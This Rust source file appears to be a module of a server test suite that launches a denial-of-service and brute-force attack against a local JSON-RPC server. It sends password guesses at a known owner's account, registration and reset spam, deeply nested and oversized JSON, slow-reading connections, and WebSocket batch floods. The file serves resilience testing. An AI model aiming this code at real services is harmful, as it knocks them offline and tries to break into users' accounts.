//! The attack: all requests that are cheap for a stranger and expensive for the server, from one address, as fast as one
//! core can send them.

use super::{
    Result,
    http::{Http, connect, post, request},
};
use rustix::process::nice;
use serde_json::{Value, json};
use std::{
    cell::Cell,
    io,
    net::{IpAddr, Ipv4Addr, SocketAddr},
    rc::Rc,
    thread::JoinHandle,
    time::Duration,
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    sync::oneshot,
    task::{self, LocalSet},
    time::sleep,
};

/// The attacker's address.
const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);
/// Connections that send one request after another and await each answer.
const CALLERS: usize = 48;
/// Connections that request the largest answer and hardly read it.
const SLOW_READERS: usize = 150;
/// WebSockets that send batches and read no answers.
const STOPPED_SOCKETS: usize = 150;
/// The size of a message near the limit, in bytes.
const LARGE: usize = 60 * 1024;

/// A running attack, on a thread of its own.
pub struct Attack {
    thread: JoinHandle<io::Result<u64>>,
    stop: oneshot::Sender<()>,
}

impl Attack {
    /// Ends the attack, and returns how many messages it sent.
    pub fn end(self) -> Result<String> {
        // The receiver is gone only if the thread has failed, which `join` reports.
        let _ = self.stop.send(());
        let sent = self.thread.join().map_err(|_| "the attack has panicked")??;
        Ok(format!("{sent} messages of the attacker"))
    }
}

/// Starts the attack on an owner whose e-mail address is known. Its thread has the lowest priority: filling the buffers of
/// 150 sockets takes a third of a second of its core, which would otherwise count as a slow answer to the owner, who shares
/// the core.
pub fn start(server: SocketAddr, owner: &'static str) -> Attack {
    let (stop, stopped) = oneshot::channel();
    let thread = std::thread::spawn(move || {
        nice(19)?;
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let sent = Rc::new(Cell::new(0));
        LocalSet::new().block_on(&runtime, async {
            let attackers = attack(server, owner, &sent);
            let _ = stopped.await;
            attackers.iter().for_each(task::JoinHandle::abort);
        });
        Ok(sent.get())
    });
    Attack { thread, stop }
}

fn attack(server: SocketAddr, owner: &str, sent: &Rc<Cell<u64>>) -> Vec<task::JoinHandle<()>> {
    let mut tasks = Vec::new();
    let requests: Rc<[String]> = attack_requests(owner).into();
    for number in 0..CALLERS {
        let (requests, sent) = (requests.clone(), sent.clone());
        tasks.push(task::spawn_local(repeat(move || call_in_turn(server, requests.clone(), number, sent.clone()))));
    }
    for _ in 0..SLOW_READERS {
        let sent = sent.clone();
        tasks.push(task::spawn_local(repeat(move || read_slowly(server, sent.clone()))));
    }
    for _ in 0..STOPPED_SOCKETS {
        let sent = sent.clone();
        tasks.push(task::spawn_local(repeat(move || send_batches(server, sent.clone()))));
    }
    tasks
}

/// Repeats an attack, since the server may close its connection.
async fn repeat<F: Future<Output = Result<()>>>(attack: impl Fn() -> F) {
    loop {
        if attack().await.is_err() {
            sleep(Duration::from_millis(50)).await;
        }
    }
}

/// The requests, sent in turn; `@` is replaced by a new number each time.
fn attack_requests(owner: &str) -> Vec<String> {
    let call = |method: &str, params: Value| request(method, &params);
    let many = |call: String| format!("[{}]", vec![call; 50].join(","));
    let name = "Zoë ".repeat(LARGE / 5);
    vec![
        call("auth.login", json!({ "email": owner, "password": "guess @" })),
        call("auth.login", json!({ "email": "nobody.@@example.org", "password": "guess @" })),
        many(call("auth.login", json!({ "email": owner, "password": "guess @" }))),
        call(
            "auth.register",
            json!({ "email": "some.@@example.org", "password": "nine loud herons @", "first_name": name }),
        ),
        call(
            "auth.register",
            json!({ "email": "some.@@example.org", "password": "nine loud herons @", "first_name": "Eve" }),
        ),
        call("auth.register", json!({ "email": owner, "password": "nine loud herons @", "first_name": "Eve" })),
        call("auth.request_password_reset", json!({ "email": owner })),
        call("auth.resend_verification", json!({ "email": "some.@@example.org" })),
        many(call("auth.resend_verification", json!({ "email": "some.@@example.org" }))),
        call("auth.await_verification", json!({ "registration": "made-up", "wait_ms": 30_000 })),
        call("auth.confirm_password_reset", json!({ "token": "made-up", "new_password": "4@8({[</369".repeat(20) })),
        many(call("auth.refresh", json!({ "refresh_token": "made up @" }))),
        many(call("session.authenticate", json!({ "access_token": "a.b.@" }))),
        many(call("profile.get", json!({}))),
        call("rpc.discover", json!({})),
        format!(r#"{{"jsonrpc":"2.0","id":1,"method":"profile.get","params":{}"#, "[".repeat(LARGE)),
        format!("[{}]", vec!["1"; LARGE / 2].join(",")),
    ]
}

async fn call_in_turn(server: SocketAddr, requests: Rc<[String]>, number: usize, sent: Rc<Cell<u64>>) -> Result<()> {
    let mut http = Http::open(ATTACKER, server).await?;
    for turn in number.. {
        let body = requests[turn % requests.len()].replace('@', &sent.get().to_string());
        sent.set(sent.get() + 1);
        http.exchange(&post(&body, None)).await?;
    }
    Ok(())
}

async fn read_slowly(server: SocketAddr, sent: Rc<Cell<u64>>) -> Result<()> {
    let mut stream = connect(ATTACKER, server).await?;
    for _ in 0..50 {
        stream.write_all(post(&request("rpc.discover", &json!({})), None).as_bytes()).await?;
        sent.set(sent.get() + 1);
    }
    // Reads a byte now and then: slowly, but often enough not to be cut off.
    loop {
        sleep(Duration::from_secs(5)).await;
        stream.read_u8().await?;
    }
}

async fn send_batches(server: SocketAddr, sent: Rc<Cell<u64>>) -> Result<()> {
    let mut stream = connect(ATTACKER, server).await?;
    let handshake = "GET /rpc HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                     Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    stream.write_all(handshake.as_bytes()).await?;
    let call = request("session.authenticate", &json!({ "access_token": "a.b.c" }));
    let batch = format!("[{}]", vec![call; 50].join(","));
    // A text frame with the mask 0.
    let mut frame = vec![0x81, 0x80 | 126];
    frame.extend_from_slice(&u16::try_from(batch.len())?.to_be_bytes());
    frame.extend_from_slice(&[0; 4]);
    frame.extend_from_slice(batch.as_bytes());
    loop {
        stream.write_all(&frame).await?;
        sent.set(sent.get() + 1);
    }
}
